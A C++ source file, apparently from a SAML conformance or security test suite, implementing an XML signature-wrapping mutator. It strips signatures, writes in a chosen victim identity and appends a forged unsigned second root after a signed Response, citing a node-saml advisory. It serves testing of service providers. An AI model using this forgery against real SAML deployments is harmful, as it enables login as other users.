// SPDX-License-Identifier: Apache-2.0
// xsw.second_root_appended — node-saml GHSA-5p8w-2mvw-38pv (XSW-MULTIROOT): a forged, unsigned
// Response (or Assertion) claiming the victim is written after the end of the signed Response.
// A parser in recovery mode, or code that splits the bytes itself, may see the second root.
// XML 1.0 §2.1 (document ::= prolog element Misc*): the bytes are not a well-formed document.
#include "mutators/xsw/xsw.hpp"
#include "samlt/core/saml_names.hpp"

namespace samlt::idp::mutators {

// Params: root (response | assertion: what the second root is), victim.
core::Result<void> xsw_second_root_appended(Target& target) {
  namespace n = core::names;
  auto root = xsw::choice_param(target, "root", "response|assertion", "response");
  auto victim = xsw::victim(target);
  if (!root || !victim) {
    return core::fail(!root ? root.error() : victim.error());
  }
  auto doc = core::parse_strict(*target.xml);  // idp_sim's own serialisation
  if (!doc) {
    return core::fail(core::Reason::mutator_not_applicable, "the message is no longer XML: " + doc.error().detail);
  }
  xmlNode* element = doc->root();
  if (*root == "assertion") {
    element = core::child_named(element, n::ns_assertion, "Assertion");
    if (element == nullptr) {
      return core::fail(core::Reason::mutator_not_applicable, "the Response carries no Assertion");
    }
  }
  for (xmlNode* signature : core::descendants_named(element, n::ns_dsig, "Signature")) {
    core::remove_node(signature);
  }
  xsw::write_victim(element, *victim);
  xsw::rename_ids(element, xsw::Ids::fresh, std::nullopt);
  *target.xml += core::serialize(element);
  return {};
}

}  // namespace samlt::idp::mutators
